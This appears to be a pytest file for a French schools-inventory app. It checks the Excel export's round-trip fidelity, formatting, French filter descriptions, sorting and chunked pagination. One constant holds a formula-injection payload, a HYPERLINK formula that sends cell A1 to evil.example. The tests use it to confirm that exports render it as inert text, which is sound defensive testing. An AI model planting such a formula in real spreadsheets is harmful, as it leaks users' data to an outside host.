"""Excel out: the schools sheet exported through sheets/exporter.py, read back with openpyxl and calamine."""

from __future__ import annotations

import datetime as dt
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from python_calamine import CalamineWorkbook

from models.schools import Mode, School
from sheets.engine import exporter
from sheets.engine.caller import Caller
from sheets.engine.exporter import describe_filters, export_sheet
from sheets.engine.query import QueryError, cli_filters
from sheets.schools import SCHOOLS
from tests.factories import make_school

INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez ici")'


def expected_row(school: School) -> list[Any]:
    """What a school's row shows in the exported file (choices as labels, booleans as Oui/Non like the screen)."""
    out: list[Any] = []
    for column in SCHOOLS.columns:
        value = getattr(school, column.field)
        if column.kind == "choice":
            value = column.choice_label(getattr(value, "value", value))
        if column.kind == "boolean":
            value = "Oui" if value else "Non"
        if column.kind == "datetime":
            value = None  # compared separately (seconds rounding)
        out.append(value if value != "" else None)
    return out


def read_openpyxl(path: Path) -> tuple[list[str], list[list[Any]], dict[str, Any]]:
    """Header, rows and « Informations » of an exported file, through openpyxl."""
    book = openpyxl.load_workbook(path)
    sheet = book.worksheets[0]
    rows = [list(r) for r in sheet.iter_rows(values_only=True)]
    info = {r[0]: r[1] for r in book["Informations"].iter_rows(values_only=True)}
    return rows[0], rows[1:], info


def read_calamine(path: Path) -> list[list[Any]]:
    """Rows of the first sheet through python-calamine."""
    book = CalamineWorkbook.from_path(str(path))
    return book.get_sheet_by_index(0).to_python(skip_empty_area=False)


def without_datetime(row: list[Any]) -> list[Any]:
    """A row with the « Modifié le » cell blanked (compared on its own)."""
    index = [c.field for c in SCHOOLS.columns].index("updated_at")
    return [None if i == index else (v if v != "" else None) for i, v in enumerate(row)]


async def seed_schools() -> list[School]:
    """A few schools covering every column kind, plus a formula-injection attempt."""
    return [
        await make_school(name="Lycée Jean Jaurès", commune="Montreuil", departement="93", mode="papier",
                          csn_deployed=True, wifi_ssid="LYC-JAURES", postal_code="93100"),
        await make_school(name=INJECTION, commune="Paris", departement="75", type="LP"),
        await make_school(name="Lycée Hoche", commune="Versailles", departement="78", type="LEGT",
                          track_professionnelle=True, wifi_mdm_configured=True),
        await make_school(name="+33 1 23 45 67 89 @lycée -test", commune="Créteil", departement="94"),
    ]


async def test_export_round_trip_reads_back_equal_with_openpyxl_and_calamine(db: str, tmp_path: Path) -> None:
    schools = await seed_schools()
    target = tmp_path / "ecoles.xlsx"
    seen: list[tuple[int, int]] = []
    count = await export_sheet(SCHOOLS, target, caller=Caller("alice@example.fr", "admin"),
                               progress=lambda d, t: seen.append((d, t)))
    assert count == 4 and seen[-1] == (4, 4)
    header, rows, info = read_openpyxl(target)
    assert header == [c.label for c in SCHOOLS.columns]
    by_uai = {s.uai: s for s in schools}
    assert [r[0] for r in rows] == sorted(by_uai)  # default sort: UAI
    for row in rows:
        assert without_datetime(row) == expected_row(by_uai[row[0]])
        updated = row[[c.field for c in SCHOOLS.columns].index("updated_at")]
        stored = by_uai[row[0]].updated_at.astimezone(exporter.PARIS).replace(tzinfo=None)
        assert abs(updated - stored) < dt.timedelta(seconds=1)  # a real date, Paris wall time
    calamine_rows = read_calamine(target)
    assert calamine_rows[0] == header
    for row_o, row_c in zip(rows, calamine_rows[1:], strict=True):
        assert without_datetime(row_c) == without_datetime(row_o)
    assert info["Feuille"] == "Établissements"
    assert info["Par"] == "alice@example.fr"
    assert info["Lignes"] == 4
    assert info["Filtres"].startswith("Aucun filtre")
    assert dt.datetime.strptime(info["Exporté le"][:16], "%d/%m/%Y %H:%M")


async def test_export_is_made_for_people(db: str, tmp_path: Path) -> None:
    await seed_schools()
    target = tmp_path / "ecoles.xlsx"
    await export_sheet(SCHOOLS, target)
    book = openpyxl.load_workbook(target)
    sheet = book.worksheets[0]
    assert sheet.title == "Établissements"
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.b
    assert sheet.auto_filter.ref == "A1:P5"
    lists = {str(dv.sqref): dv.formula1 for dv in sheet.data_validations.dataValidation}
    mode_letter = "H"
    assert '"' + ",".join(Mode.labels().values()) + '"' == lists[f"{mode_letter}2:{mode_letter}5"]
    assert sheet.column_dimensions["B"].width == pytest.approx(320 / 7, abs=0.2)


async def test_formula_injection_in_a_school_name_is_exported_as_text(db: str, tmp_path: Path) -> None:
    await seed_schools()
    target = tmp_path / "ecoles.xlsx"
    await export_sheet(SCHOOLS, target)
    sheet = openpyxl.load_workbook(target).worksheets[0]
    cells = {sheet.cell(row, 2).value: sheet.cell(row, 2) for row in range(2, 6)}
    for text in (INJECTION, "+33 1 23 45 67 89 @lycée -test"):
        cell = cells[text]
        assert cell.data_type == "s"  # a string, never a formula
        assert cell.quotePrefix  # shown as text by Excel and LibreOffice, even on re-edit
    assert INJECTION in [r[1] for r in read_calamine(target)]


async def test_export_with_filters_and_sort(db: str, tmp_path: Path) -> None:
    await seed_schools()
    for n in range(7):
        await make_school(name=f"Lycée Créteil {n}", commune="Créteil" if n % 2 else "Meaux", departement="77")
    target = tmp_path / "creteil.xlsx"
    filters = cli_filters(SCHOOLS, ["academie=Créteil"])
    count = await export_sheet(SCHOOLS, target, filter_model=filters,
                               sort_model=[{"colId": "commune", "sort": "desc"}, {"colId": "name", "sort": "asc"}])
    expected = await School.filter(academie__in=["creteil"]).order_by("-commune", "name", "id").values_list(
        "uai", flat=True)
    _, rows, info = read_openpyxl(target)
    assert count == len(expected) == 9
    assert [r[0] for r in rows] == list(expected)
    assert info["Filtres"] == "Académie égal à « Créteil »"
    assert info["Tri"] == "Commune (décroissant), Nom (croissant)"
    assert info["Lignes"] == 9


async def test_export_pages_through_chunks_with_ties(db: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(exporter, "CHUNK_ROWS", 3)  # keyset pagination crosses many chunk boundaries
    for n in range(17):
        await make_school(name=f"Lycée {n % 4}", commune=("Paris", "Meaux", "Évry")[n % 3],
                          departement=("75", "77", "91")[n % 3])
    sort = [{"colId": "commune", "sort": "asc"}, {"colId": "name", "sort": "desc"}]
    target = tmp_path / "chunks.xlsx"
    assert await export_sheet(SCHOOLS, target, sort_model=sort) == 17
    expected = await School.all().order_by("commune", "-name", "-id").values_list("uai", flat=True)
    assert [r[0] for r in read_calamine(target)[1:]] == list(expected)
    quick = tmp_path / "quick.xlsx"
    assert await export_sheet(SCHOOLS, quick, quick="meaux") == 6


async def test_bad_filter_is_refused_in_french_and_leaves_no_file(db: str, tmp_path: Path) -> None:
    target = tmp_path / "x.xlsx"
    with pytest.raises(QueryError, match="Colonne inconnue"):
        await export_sheet(SCHOOLS, target, filter_model={"password": {"type": "equals", "filter": "x"}})
    assert not target.exists()


def test_filters_are_described_in_french() -> None:
    model = {
        "mode": {"filterType": "set", "values": ["papier"]},
        "csn_deployed": {"filterType": "boolean", "type": "equals", "filter": "true"},
        "name": {"filterType": "text", "operator": "OR", "conditions": [
            {"type": "contains", "filter": "Hoche"}, {"type": "startsWith", "filter": "Lycée J"}]},
        "updated_at": {"filterType": "date", "type": "inRange", "dateFrom": "2026-09-01", "dateTo": "2026-09-30"},
    }
    text = describe_filters(SCHOOLS, model, "jaurès")
    assert text == ("Manuels parmi « Papier » ; CSN déployé égal à « Oui » ; "
                    "Nom contient « Hoche » ou commence par « Lycée J » ; "
                    "Modifié le entre « 01/09/2026 » et « 30/09/2026 » ; recherche « jaurès »")


async def test_the_event_loop_stays_free_during_an_export(db: str, tmp_path: Path,
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    import asyncio

    monkeypatch.setattr(exporter, "CHUNK_ROWS", 5)
    for _ in range(40):
        await make_school()
    ticks = 0
    running = True

    async def ticker() -> None:
        nonlocal ticks
        while running:
            ticks += 1
            await asyncio.sleep(0)

    task = asyncio.create_task(ticker())
    progress: list[int] = []
    count = await export_sheet(SCHOOLS, tmp_path / "x.xlsx", progress=lambda done, total: progress.append(done))
    running = False
    await task
    assert count == 40 and progress == [5, 10, 15, 20, 25, 30, 35, 40]
    assert ticks >= len(progress)  # other coroutines ran between chunks


async def test_audit_sheet_exports_by_offset_chunks_on_a_nullable_sort(db: str, tmp_path: Path,
                                                                      monkeypatch: pytest.MonkeyPatch) -> None:
    from models.audit import AuditEntry, Source
    from sheets.audit_sheet import AUDIT

    monkeypatch.setattr(exporter, "CHUNK_ROWS", 4)
    for n in range(11):
        await AuditEntry.create(actor="bob", sheet="schools", row_id=n, row_key=f"K{n}", column="name",
                                old_value=None if n % 3 == 0 else f'"v{n % 4}"', new_value='"x"',
                                source=Source.GRID if n % 2 else Source.IMPORT, batch="b")
    assert not exporter._keyset_ok(AUDIT, ["old_value", "id"])
    target = tmp_path / "journal.xlsx"
    assert await export_sheet(AUDIT, target, sort_model=[{"colId": "old_value", "sort": "asc"}]) == 11
    rows = read_calamine(target)
    assert rows[0][:3] == ["N°", "Date", "Auteur"]
    ids = [int(r[0]) for r in rows[1:]]
    assert sorted(ids) == sorted(await AuditEntry.all().values_list("id", flat=True))  # each row exactly once
    assert {r[8] for r in rows[1:]} == {"Grille", "Import Excel"}  # choice labels


@pytest.mark.skipif(__import__("shutil").which("soffice") is None, reason="LibreOffice (soffice) is not installed")
async def test_libreoffice_opens_the_export_and_shows_the_injection_as_text(db: str, tmp_path: Path) -> None:
    import asyncio
    import csv
    import subprocess

    await seed_schools()
    target = tmp_path / "ecoles.xlsx"
    await export_sheet(SCHOOLS, target, sort_model=[{"colId": "name", "sort": "asc"}])
    filter_ = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,false,true,false,false,1"
    result = await asyncio.to_thread(subprocess.run, [
        "soffice", f"-env:UserInstallation=file://{tmp_path}/profile", "--headless", "--convert-to", filter_,
        "--outdir", str(tmp_path / "out"), str(target)], capture_output=True, text=True, timeout=300, check=False)
    out = list((tmp_path / "out").glob("*.csv"))
    assert out, result.stdout + result.stderr
    lines = list(csv.reader(out[0].open(encoding="utf-8")))
    assert lines[0][:3] == ["UAI", "Nom", "Type"]
    names = [line[1] for line in lines[1:]]
    assert INJECTION in names and "+33 1 23 45 67 89 @lycée -test" in names  # text, never evaluated
    assert len(lines) == 5


@pytest.mark.parametrize("sort", [
    [{"colId": "mode", "sort": "desc"}, {"colId": "csn_deployed", "sort": "asc"}],
    [{"colId": "type", "sort": "asc"}, {"colId": "updated_at", "sort": "desc"}],
])
async def test_keyset_pages_on_choice_boolean_and_datetime_columns(db: str, tmp_path: Path,
                                                                  monkeypatch: pytest.MonkeyPatch,
                                                                  sort: list[dict[str, str]]) -> None:
    monkeypatch.setattr(exporter, "CHUNK_ROWS", 2)
    for n in range(9):
        await make_school(mode=("papier", "numerique")[n % 2], csn_deployed=n % 3 == 0, type=("LP", "LPO")[n % 2])
    target = tmp_path / "k.xlsx"
    assert await export_sheet(SCHOOLS, target, sort_model=sort) == 9
    terms = exporter.order_by(SCHOOLS, sort)
    assert exporter._keyset_ok(SCHOOLS, terms)
    expected = await School.all().order_by(*terms).values_list("uai", flat=True)
    assert [r[0] for r in read_calamine(target)[1:]] == list(expected)


async def test_exports_speak_french_file_name_tab_and_booleans(db: str, tmp_path: Path) -> None:
    """Issue 15: `parc-appareils-2024-09-12.xlsx`, a tab without double spaces, Oui/Non as on screen, years plain."""
    import datetime as dt

    from sheets.engine.declaration import get_sheet
    from sheets.engine.exporter import _title, export_filename, xlsx_columns

    devices, calendar = get_sheet("devices"), get_sheet("calendar")
    assert export_filename(devices, dt.date(2024, 9, 12)) == "parc-appareils-2024-09-12.xlsx"
    assert export_filename(get_sheet("schools"), dt.date(2024, 9, 12)) == "etablissements-2024-09-12.xlsx"
    assert _title(devices) == "Parc appareils"
    kinds = {c.header: (c.kind, c.choices) for c in xlsx_columns(calendar)}
    assert kinds["Campagne"][0] == "number" and kinds["N°"][0] == "number"  # 2024, not 2 024
    assert {c.header: c.kind for c in xlsx_columns(devices)}["Office"] == "choice"
    await make_school(csn_deployed=True)
    target = tmp_path / "x.xlsx"
    await export_sheet(SCHOOLS, target)
    header, rows, _info = read_openpyxl(target)
    assert rows[0][header.index("CSN déployé")] == "Oui" and rows[0][header.index("Wi-Fi dans le MDM")] == "Non"
